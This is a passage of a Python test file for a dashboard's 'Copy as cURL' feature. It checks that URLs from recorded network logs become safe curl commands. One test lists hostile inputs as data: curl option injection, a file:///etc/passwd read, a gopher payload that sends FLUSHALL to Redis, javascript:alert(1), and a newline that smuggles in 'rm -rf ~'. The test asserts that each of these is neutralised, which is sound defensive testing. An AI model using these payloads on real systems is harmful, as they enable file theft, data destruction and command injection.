    page.goto(f"{live_server}/reports/{report['id']}")
    buttons = page.get_by_role("button", name="Copy as cURL")
    expect(buttons).to_have_count(len(report["networkLogs"]))
    expect(page.get_by_role("link", name="Download HAR")).to_have_attribute(
        "href", f"/api/v1/reports/{report['id']}/har"
    )
    commands = []
    for index in range(len(report["networkLogs"])):
        buttons.nth(index).click()
        expect(page.get_by_text("Copied.")).to_have_count(index + 1)
        commands.append(page.evaluate("navigator.clipboard.readText()"))
    return commands


def run_curls(commands: list[str]) -> list[dict]:
    Recorder.seen = []
    proxy = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=proxy.serve_forever, daemon=True).start()
    env = {**os.environ, "http_proxy": f"http://127.0.0.1:{proxy.server_port}", "NO_PROXY": "",
           "no_proxy": ""}  # fmt: skip
    try:
        for command in commands:
            done = subprocess.run(["bash", "-c", command + " --silent --show-error"], env=env,
                                  capture_output=True, text=True, timeout=30)  # fmt: skip
            assert done.returncode == 0, command + done.stderr
    finally:
        proxy.shutdown()
    return Recorder.seen


def curl_commands(entries: list[dict]) -> list[str]:
    """What the dashboard's curl.js makes of each entry, run by Node."""
    source = (ROOT / "svc/dashboard/static/js/curl.js").read_text()
    source += f"\nconsole.log(JSON.stringify({json.dumps(entries)}.map(curlCommand)));\n"
    done = subprocess.run(["node", "--input-type=module"], input=source, capture_output=True,
                          text=True, timeout=60)  # fmt: skip
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def test_copy_as_curl_makes_commands_of_http_addresses_alone():
    """curl's first word was the reporter's URL unchecked: `-Lo` became
    options, `[1-3]` three requests, `file:` and `gopher:` were emitted. Now an http(s) address
    the browser's parse reads plainly is `--url '...'` behind `--globoff`; anything else is a
    comment."""
    hostile = ["-Lo", "-X", "file:///etc/passwd", "gopher://127.0.0.1:6379/_FLUSHALL",
               "http://evil.example\\@shop.test/", "http://u:p@shop.test/", "javascript:alert(1)",
               "http://shop.test/a\nrm -rf ~"]  # fmt: skip
    commands = curl_commands([{"method": "GET", "url": url} for url in hostile])
    assert len(commands) == len(hostile)
    for command in commands:
        assert command.startswith("# not a command: only http(s) addresses become one"), command
        assert "\n" not in command and "curl" not in command.split(")")[-1], command
    [globbed] = curl_commands([{"method": "GET", "url": "http://shop.test/item[1-3]?x={a,b}"}])
    assert globbed == "curl --globoff --url 'http://shop.test/item[1-3]?x={a,b}'"
